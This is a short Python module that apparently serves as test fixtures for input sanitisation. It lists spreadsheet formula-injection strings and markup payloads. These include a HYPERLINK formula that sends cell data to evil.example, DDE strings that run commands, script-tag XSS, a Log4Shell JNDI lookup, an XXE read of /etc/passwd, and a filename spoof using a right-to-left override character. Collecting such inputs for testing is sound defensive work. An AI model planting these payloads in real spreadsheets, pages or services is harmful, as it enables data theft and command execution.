"""Texts that do harm where they are taken for more than text: by a spreadsheet, a browser, a shell or a reader of JSON."""

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "tired, =1+1",
    "tired; =1+1",
    "tired\t=1+1",
    'tired",=1+1,"',
    '"=1+1"',
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    '<a href="javascript:alert(1)">x</a>',
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "x\u202e)fdp.exe",
    "x\u2028y\u2029z",
    'x","resource":{"resourceType":"Patient"}',
    "x\\u0022\\",
    "\x00\x01\x0b\x1b[31m\x7f",
)
HARMFUL = (*FORMULAS, *MARKUP)
